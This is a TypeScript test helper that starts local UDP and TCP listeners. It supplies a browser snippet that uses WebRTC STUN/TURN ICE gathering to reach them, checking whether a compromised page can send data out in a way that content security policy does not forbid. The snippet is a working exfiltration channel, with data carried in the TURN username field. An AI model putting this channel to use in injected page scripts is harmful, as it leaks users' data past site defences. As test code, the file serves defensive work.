import { createSocket } from "node:dgram";
import { once } from "node:events";
import { type AddressInfo, createServer } from "node:net";

export interface Listener {
  /** Has a page look for peers by this listener, and gives "complete" once it has tried every way. */
  readonly attempt: string;
  /** What arrived: datagrams and connections. */
  heard(): number;
  close(): void;
}

/** Listens where a page that was taken over would have WebRTC carry something out to, which no content security policy forbids. */
export async function listenForPeers(): Promise<Listener> {
  let heard = 0;
  const datagrams = createSocket("udp4").on("message", () => (heard += 1));
  const connections = createServer((connection) => {
    heard += 1;
    connection.destroy();
  });
  datagrams.bind(0, "127.0.0.1");
  connections.listen(0, "127.0.0.1");
  await Promise.all([once(datagrams, "listening"), once(connections, "listening")]);
  const ports = [datagrams.address().port, (connections.address() as AddressInfo).port] as const;
  return {
    attempt: attemptWith(...ports),
    heard: () => heard,
    close: () => {
      datagrams.close();
      connections.close();
    },
  };
}

const attemptWith = (udp: number, tcp: number) => `(async () => {
  const peer = new RTCPeerConnection({ iceServers: [
    { urls: "stun:127.0.0.1:${udp}" },
    { urls: "turn:127.0.0.1:${tcp}?transport=tcp", username: "what was seen", credential: "x" },
  ] });
  peer.createDataChannel("x");
  const complete = new Promise((resolve) => {
    peer.onicegatheringstatechange = () => peer.iceGatheringState === "complete" && resolve("complete");
  });
  await peer.setLocalDescription(await peer.createOffer());
  return complete;
})()`;
